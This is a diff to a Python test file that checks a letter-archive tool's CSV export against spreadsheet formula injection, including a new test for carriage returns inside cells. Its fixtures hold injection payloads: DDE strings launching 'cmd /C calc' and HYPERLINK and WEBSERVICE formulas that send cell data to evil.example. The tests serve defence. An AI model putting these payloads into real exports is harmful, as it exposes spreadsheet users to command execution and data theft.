@@ -26,7 +26,7 @@ TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click here")'
 SUMMARY = ["+cmd|' /C calc'!A0", "=1+1 inside the text is no formula"]
 URL = '=WEBSERVICE("https://evil.example/"&A1)'
 DATE = "-0044-03-15"  # ISO 8601 for 15 March 44 BC: a spreadsheet would compute -62
-LANGUAGES = ["\t=1+2", "@SUM(1)"]
+LANGUAGES = ["\t=1+2", "\r@SUM(1)"]
 SENDER = "@SUM(1+1)*cmd|' /C calc'!A0"
 SENDER_AUTHORITY = "-2+3+cmd|' /C calc'!A0"
 RECIPIENT = '=HYPERLINK("https://evil.example")'
@@ -151,7 +151,7 @@ def test_no_csv_cell_begins_a_formula(tables):
     assert row["summary"] == "'" + "\n\n".join(SUMMARY)  # only the cell's start matters
     assert row["url"] == "'" + URL
     assert row["date"] == "'" + DATE  # decision: a date is text, not a subtraction
-    assert row["languages"] == "'\t=1+2 | '@SUM(1)"  # each item, as lists are split at |
+    assert row["languages"] == "'\t=1+2 | '\r@SUM(1)"  # each item, as lists are split at |
     assert row["senders"] == "'" + SENDER
     assert row["sender_authorities"] == "'" + SENDER_AUTHORITY
     assert row["recipients"] == f"'{RECIPIENT} | '-1+1 | -5"  # -5: a number, left alone
@@ -227,3 +227,24 @@ def test_csv_cell(text, cell):
 
 def test_csv_list_neutralises_each_item():
     assert csv_list(["Gao Gang", "=1+1", "-5", ""]) == "Gao Gang | '=1+1 | -5 | "
+
+
+def test_a_carriage_return_inside_a_cell_starts_no_row(tmp_path):
+    """A lone CR is a line end to csv readers and spreadsheets: unquoted, the rest of the cell
+    would be a row of its own, its first cell a formula no check at the cell's start saw."""
+    src = tmp_path / "letter.txt"
+    src.write_text(export(), encoding="utf-8")
+    xml = tmp_path / "letter.xml"
+    tei("import", str(src), "-o", str(xml))
+    tree = etree.parse(str(xml))
+    url = "https://example.org/document/123\r=2+5+cmd|' /C calc'!A0"  # no " or , in it
+    idno = tree.getroot().xpath("//t:publicationStmt/t:idno[@type='URI']", namespaces=NS)[0]
+    idno.text = url  # written as &#13;, which a parser keeps
+    tree.write(str(xml), encoding="utf-8", xml_declaration=True)
+    out = tmp_path / "letters.csv"
+    tei("export", str(xml), "--to", "csv", "-o", str(out))
+    text = out.read_bytes().decode("utf-8")
+    rows = csv_rows(text)
+    assert len(rows) == 1 and rows[0]["url"] == url
+    assert rows[0]["title"] == "Telegram, Gao Gang to Peng Dehuai"
+    assert f'"{url}"' in text
